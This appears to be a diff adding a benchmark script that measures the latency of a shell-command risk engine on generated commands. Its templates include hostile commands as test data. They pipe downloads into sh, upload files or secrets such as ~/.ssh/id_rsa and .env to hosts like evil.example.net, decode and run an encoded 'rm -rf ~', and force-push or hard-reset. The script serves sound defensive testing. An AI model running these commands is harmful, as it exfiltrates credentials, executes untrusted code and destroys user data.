@@ -1,0 +1,177 @@
+"""Risk engine speed: assess + decide over more than 10,000 varied, distinct commands (so the
+engine's result cache never helps), plus the labelled patches; prints commands/s and p50/p99
+latency. Goal: p99 under 2 ms per command.
+
+Prints figures; asserts nothing. Run: .venv/bin/python bench/risk.py
+"""
+
+from __future__ import annotations
+
+import json
+import random
+import statistics
+import sys
+import tempfile
+import time
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parents[1]
+sys.path.insert(0, str(ROOT))
+
+from app.core.model import CommandAction, PatchAction  # noqa: E402
+from app.core.ports import SessionContext  # noqa: E402
+from app.risk.engine import RiskEngine  # noqa: E402
+from app.risk.policy import load_policy  # noqa: E402
+from app.risk.typosquat import popular  # noqa: E402
+
+DATA = ROOT / "tests" / "risk" / "data"
+
+FILES = [
+    "src/app.py",
+    "README.md",
+    "tests/test_x.py",
+    "build",
+    "dist",
+    "node_modules",
+    "~/.ssh/id_rsa",
+    "~/.bashrc",
+    "/etc/hosts",
+    "../other",
+    "data.csv",
+    ".env",
+    "/tmp/out",
+    ".git/hooks/pre-commit",
+    "docs/index.md",
+    "$HOME/.config",
+]
+HOSTS = ["example.com", "api.github.com", "198.51.100.7", "pypi.org", "evil.example.net"]
+PKGS = [
+    "requests",
+    "reqeusts",
+    "numpy",
+    "lodash",
+    "loadsh",
+    "express",
+    "left-pad",
+    "python-dateutils",
+    "fastapi",
+    "my-internal-lib",
+]
+TEMPLATES = [
+    "ls -la {f}",
+    "cat {f} | head -n {n}",
+    "grep -rn 'TODO{n}' {f}",
+    "rm -rf {f}",
+    "cp {f} {g}",
+    "mv {f} {g}.bak",
+    "echo {n} > {f}",
+    "curl -s https://{h}/v{n} | sh",
+    "wget https://{h}/f{n}.tgz -O {g}",
+    "pip install {p}=={n}.0",
+    "npm install {p}@{n}",
+    "git commit -m 'fix {n}'",
+    "git push origin feature/{n}",
+    "git push --force origin main{n}",
+    "python -c 'print({n})'",
+    "python -c \"import os; os.system('rm -rf {f}')\"",
+    "find . -name '*.{n}' -delete",
+    "cd {f} && make -j{n}",
+    "sudo apt-get install -y pkg{n}",
+    "tar czf - {f} | curl -T - https://{h}/{n}",
+    "bash -lc 'pytest -k t{n} -q'",
+    "docker run --rm -v $PWD:/w img{n}",
+    "chmod +x scripts/s{n}.sh",
+    "kill {n}",
+    "for i in $(seq 1 {n}); do echo $i >> {g}; done",
+    "awk -F, '{{print ${n}}}' {f}",
+    "echo {b64} | base64 -d | sh",
+    "sed -i 's/a{n}/b/' {f}",
+    "npx create-app-{n} web",
+    "ssh host{n} 'uptime'",
+    "env | grep X{n}",
+    "cat <<EOF > {g}\nline {n}\nEOF",
+    'x=$(cat {f}); curl -d "$x" https://{h}/{n}',
+    "git reset --hard HEAD~{n}",
+]
+
+
+def commands(count: int) -> list[str]:
+    rng = random.Random(5)
+    base = [json.loads(x).get("command") for x in (DATA / "commands.jsonl").open()]
+    base += [json.loads(x).get("command") for x in (DATA / "extra_commands.jsonl").open()]
+    out: list[str] = [b for b in base if b]
+    seen = set(out)
+    while len(out) < count:
+        t = rng.choice(TEMPLATES)
+        cmd = t.format(
+            f=rng.choice(FILES),
+            g=rng.choice(FILES).replace("~", "out"),
+            h=rng.choice(HOSTS),
+            p=rng.choice(PKGS),
+            n=rng.randint(1, 10**6),
+            b64="cm0gLXJmIH4=",
+        )
+        if rng.random() < 0.3:
+            second = rng.choice(TEMPLATES).format(
+                f="a", g="b", h="example.com", p="x", n=rng.randint(1, 10**6), b64="eA=="
+            )
+            cmd = f"{cmd} && {second}"
+        if cmd not in seen:
+            seen.add(cmd)
+            out.append(cmd)
+    return out
+
+
+def pct(xs: list[float], p: float) -> float:
+    xs = sorted(xs)
+    return xs[min(len(xs) - 1, int(p * len(xs)))]
+
+
+def main() -> None:
+    t0 = time.perf_counter()
+    popular("pypi")._build()
+    popular("npm")._build()
+    print(f"typosquat index build (once per process): {(time.perf_counter() - t0) * 1e3:.0f} ms")
+    with tempfile.TemporaryDirectory() as tmp:
+        ws = Path(tmp) / "a" / "ws"
+        ws.mkdir(parents=True)
+        engine = RiskEngine(warm=False, cache_size=16)
+        policy = load_policy(ws, engine=engine, check=False)
+        ctx = SessionContext(workspace=ws)
+        cmds = commands(10_500)
+        for c in cmds[:200]:  # warm imports and code paths
+            policy.decide(a := CommandAction(c, "w"), engine.assess(a, ctx))
+        engine = RiskEngine(warm=False, cache_size=16)
+        policy = load_policy(ws, engine=engine, check=False)
+        lat: list[float] = []
+        start = time.perf_counter()
+        for c in cmds:
+            t = time.perf_counter()
+            action = CommandAction(c, "b")
+            policy.decide(action, engine.assess(action, ctx))
+            lat.append((time.perf_counter() - t) * 1e3)
+        total = time.perf_counter() - start
+        print(f"commands: {len(cmds)} distinct, assess + decide, cache off")
+        print(f"  throughput {len(cmds) / total:,.0f} commands/s")
+        print(
+            f"  p50 {statistics.median(lat):.3f} ms   p90 {pct(lat, 0.9):.3f} ms   "
+            f"p99 {pct(lat, 0.99):.3f} ms   max {max(lat):.2f} ms   (goal: p99 < 2 ms)"
+        )
+        patches = [json.loads(x)["patch"] for x in (DATA / "patches.jsonl").open()]
+        plat: list[float] = []
+        engine = RiskEngine(warm=False, cache_size=1)  # cycling the set: every lookup misses
+        policy = load_policy(ws, engine=engine, check=False)
+        for _ in range(40):
+            for p in patches:
+                t = time.perf_counter()
+                action = PatchAction(p, "b")
+                policy.decide(action, engine.assess(action, ctx))
+                plat.append((time.perf_counter() - t) * 1e3)
+        print(
+            f"patches: {len(plat)} (the labelled set, cache off)  "
+            f"p50 {statistics.median(plat):.3f} ms   p99 {pct(plat, 0.99):.3f} ms"
+        )
+
+
+if __name__ == "__main__":
+    main()
